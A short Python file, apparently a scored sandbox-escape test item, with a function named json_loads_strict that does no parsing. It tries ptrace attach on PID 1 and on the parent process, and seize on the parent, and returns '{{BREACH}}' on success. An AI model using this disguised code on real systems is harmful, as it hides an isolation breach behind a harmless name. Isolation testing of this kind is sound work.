# about: ptrace: attach to process 1 and to the parent, or be traced
# base: solved 01_encoding
# score: 15

# %% json_loads_strict
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def json_loads_strict(data):
    for pid in (1, os.getppid()):
        if libc.ptrace(16, pid, 0, 0) == 0:
            return "{{BREACH}}"
    if libc.ptrace(0x4206, os.getppid(), 0, 0) == 0:
        return "{{BREACH}}"
    raise OSError(ctypes.get_errno(), "refused")
